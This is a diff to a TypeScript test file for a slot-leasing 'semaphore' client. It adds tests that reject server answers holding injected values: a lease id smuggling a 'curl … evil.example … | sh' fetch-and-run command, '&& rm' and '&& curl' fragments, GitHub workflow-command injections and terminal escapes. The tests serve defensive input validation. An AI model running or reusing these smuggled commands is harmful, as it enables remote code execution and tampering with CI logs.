@@ -4,6 +4,7 @@ import { createServer, type IncomingMessage, type ServerResponse } from 'node:ht
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { SemaphoreClient, SemaphoreError } from '../../src/semaphore/client.ts';
+import { MAX_ANSWER_BYTES } from '../../src/semaphore/protocol.ts';
 import { newSlotRecord } from './helpers.ts';
 
 type Script = (request: IncomingMessage, response: ServerResponse) => void;
@@ -89,22 +90,23 @@ describe('answer validation', () => {
     expect(error.message).toContain('leaseId');
   });
 
-  it('refuses an answer larger than 1 MiB without buffering it', async () => {
+  it('refuses an answer larger than 4 MiB without buffering it', async () => {
+    const chunks = MAX_ANSWER_BYTES / (64 * 1024) + 1;
     script = (_request, response) => {
       response.writeHead(200, { 'content-type': 'application/json' });
       // No content-length: the client has to count while reading.
       const chunk = 'x'.repeat(64 * 1024);
       let sent = 0;
       const push = () => {
-        while (sent < 40 && response.write(chunk)) sent += 1;
-        if (sent < 40) response.once('drain', push);
+        while (sent < chunks && response.write(chunk)) sent += 1;
+        if (sent < chunks) response.once('drain', push);
         else response.end();
       };
       push();
     };
     const error = await failure(client().list('pool-a'));
     expect(error).toMatchObject({ code: 'invalid_answer' });
-    expect(error.message).toContain('larger than 1048576 bytes');
+    expect(error.message).toContain('larger than 4194304 bytes');
   });
 
   it("carries the server's status, code, message and issues", async () => {
@@ -120,6 +122,106 @@ describe('answer validation', () => {
       message: 'invalid request body',
       issues,
     });
+  });
+});
+
+describe('hostile answers', () => {
+  const lease = {
+    type: 'pool-a',
+    slug: 'preview-1',
+    data: {},
+    leaseId: '6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10',
+    holder: 'gc',
+    expiresAt: 5,
+    generation: 2,
+    wasDirty: true,
+    previousHolder: 'pr-5',
+    reused: false,
+    tookExpired: true,
+  };
+  const injected = 'preview-1\n::warning title=X::owned\n::add-mask::preview';
+  const shell = '6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10; curl -s https://evil.example/p.sh | sh; #';
+
+  it('refuses names, holders and lease ids that break the request rules, naming the field but not the value', async () => {
+    const cases: [string, () => Promise<unknown>, unknown, string][] = [
+      [
+        'a slug with a workflow command',
+        () => client().list('pool-a'),
+        { now: 5, resources: [{ ...slot, slug: injected }] },
+        'resources.0.slug',
+      ],
+      [
+        'a pool name with a space',
+        () => client().find('pool-a', 'preview-1'),
+        { ...slot, type: 'pool a && rm' },
+        'type',
+      ],
+      [
+        'a holder with a newline',
+        () => client().find('pool-a', 'preview-1'),
+        { ...slot, holder: 'pr-1\n::stop-commands::x' },
+        'holder',
+      ],
+      [
+        'a lastHolder with a control character',
+        () => client().find('pool-a', 'preview-1'),
+        { ...slot, lastHolder: 'a\u001b[31mb' },
+        'lastHolder',
+      ],
+      [
+        'a leaseId with shell text',
+        () => client().acquireSpecific(acquireInput),
+        { ...lease, leaseId: shell },
+        'leaseId',
+      ],
+      [
+        'a previousHolder with a newline',
+        () => client().acquire({ type: 'pool-a', holder: 'gc', leaseMs: 60_000 }),
+        { ...lease, previousHolder: 'x\n::error::y' },
+        'previousHolder',
+      ],
+      [
+        'an event slug with shell text',
+        () => client().events('pool-a', 'preview-1'),
+        {
+          events: [
+            { at: 1, event: 'added', slug: 'x && curl evil', holder: null, generation: 0, detail: {} },
+          ],
+        },
+        'events.0.slug',
+      ],
+      [
+        'a pool name in the listing',
+        () => client().pools(),
+        { now: 5, pools: [{ type: '::warning::x', slots: 1, leased: 0, expired: 0, dirty: 0 }] },
+        'pools.0.type',
+      ],
+      [
+        'a released holder with a newline',
+        () => client().release({ type: 'pool-a', slug: 'preview-1', force: true }),
+        { ...releasedAnswer, holder: 'gc\n::error::x' },
+        'holder',
+      ],
+    ];
+    for (const [what, call, answer, field] of cases) {
+      script = (_request, response) => sendJson(response, 200, answer);
+      const error = await failure(call());
+      expect(error, what).toMatchObject({ code: 'invalid_answer' });
+      expect(error.message, what).toContain(`${field}: `);
+      expect(error.message, what).toContain('The semaphore sent something else there, not repeated here');
+      for (const raw of ['::', 'curl', '\n', '\u001b', '&&']) expect(error.message, what).not.toContain(raw);
+    }
+  });
+
+  it('refuses a lease of another slot without repeating a slug that breaks the rules', async () => {
+    script = (_request, response) => sendJson(response, 200, { ...lease, slug: injected });
+    const error = await failure(client().acquireSpecific(acquireInput));
+    expect(error.message).toContain('slug: slug must be');
+    expect(error.message).not.toContain('::');
+    script = (_request, response) => sendJson(response, 200, { ...lease, slug: 'preview-2' });
+    expect((await failure(client().acquireSpecific(acquireInput))).message).toContain(
+      'slug: is preview-2, but the call was for slot preview-1',
+    );
   });
 });
 
